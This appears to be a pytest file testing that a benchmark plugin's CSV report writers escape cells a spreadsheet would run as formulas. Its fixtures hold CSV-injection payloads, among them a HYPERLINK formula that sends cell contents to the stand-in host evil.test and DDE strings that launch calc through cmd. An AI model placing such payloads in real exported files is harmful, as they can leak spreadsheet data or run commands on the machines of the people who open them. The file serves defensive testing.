"""CSV outputs show hostile labels as text: no cell a spreadsheet would run as a formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from bench_plugin.report.aggregate_csv import render_csv
from bench_plugin.report.escape import csv_cell
from bench_plugin.report.pairwise_table import render_pairwise_csv

FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "+", "=", "@"]
# what Excel, LibreOffice and Google Sheets treat as the start of a formula
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_a_quote_and_keeps_every_character(text: str) -> None:
    cell = csv_cell(text)
    assert cell == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (-3, "-3"), (0.25, "0.25"), (-0.5, "-0.5"), (1e-3, "0.001"), ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-3", "-1e-3"),
    (".5", ".5"), ("gpt-4o", "gpt-4o"), ("a=b", "a=b"), ("x@y", "x@y"), (None, ""), (True, "True"), ("", ""),
])
def test_numbers_stay_numbers_and_ordinary_text_is_unchanged(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


@pytest.mark.parametrize("text", ["-1-1", "--5", "-5 ", "-0x10", "-inf", "-nan", "+1,5"])
def test_text_that_only_looks_numeric_is_neutralised(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_aggregate_csv_neutralises_labels_and_names_but_not_figures() -> None:
    table = {"by": ["=model"], "columns": ["@mean", "cases"], "counts": ["cases"],
             "rows": [["=HYPERLINK(\"http://evil.test\")", -0.25, 3], ["-2+3+cmd|' /C calc'!A0", None, 1],
                      ["plain", 0.5, 2], [7, -1.0, 4]]}
    rows = parsed(render_csv(table))
    assert rows == [
        ["'=model", "'@mean", "cases"],
        ["'=HYPERLINK(\"http://evil.test\")", "-0.2500", "3"],
        ["'-2+3+cmd|' /C calc'!A0", "", "1"],
        ["plain", "0.5000", "2"],
        ["7", "-1.0000", "4"],
    ]
    assert not any(cell.startswith(DANGEROUS_START) and not _is_number(cell) for row in rows for cell in row)


def test_pairwise_csv_neutralises_model_labels_and_scorer_names() -> None:
    entries = [{"component": "=cmd", "win_rates": [
        {"model": "@evil", "win": 3, "loss": 1, "tie": 0, "win_rate": 0.75, "loss_rate": 0.25,
         "win_rate_adjusted": 0.75},
        {"model": "good-model", "win": 1, "loss": 3, "tie": 0, "win_rate": 0.25, "loss_rate": 0.75,
         "win_rate_adjusted": 0.25},
    ]}]
    rows = parsed(render_pairwise_csv(entries))
    assert rows[1] == ["'=cmd", "'@evil", "3", "1", "0", "0.750000", "0.250000", "0.750000"]
    assert rows[2][:2] == ["'=cmd", "good-model"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
